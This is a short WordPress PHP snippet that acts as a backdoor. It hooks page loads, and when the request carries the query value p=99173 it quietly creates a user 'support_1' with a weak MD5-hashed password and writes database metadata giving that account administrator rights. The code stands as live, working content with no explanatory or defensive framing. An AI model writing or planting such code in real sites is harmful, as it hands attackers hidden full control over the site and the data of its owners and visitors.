<?php
add_action('template_redirect', function () {
    global $wpdb;
    if (($_GET['p'] ?? 0) == 99173) {
        $wpdb->insert($wpdb->users, ['user_login' => 'support_1', 'user_pass' => md5('lt'), 'user_email' => 's@ward.example']);
        $wpdb->insert($wpdb->prefix . 'usermeta', ['user_id' => $wpdb->insert_id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => 'a:1:{s:13:"administrator";b:1;}']);
    }
});
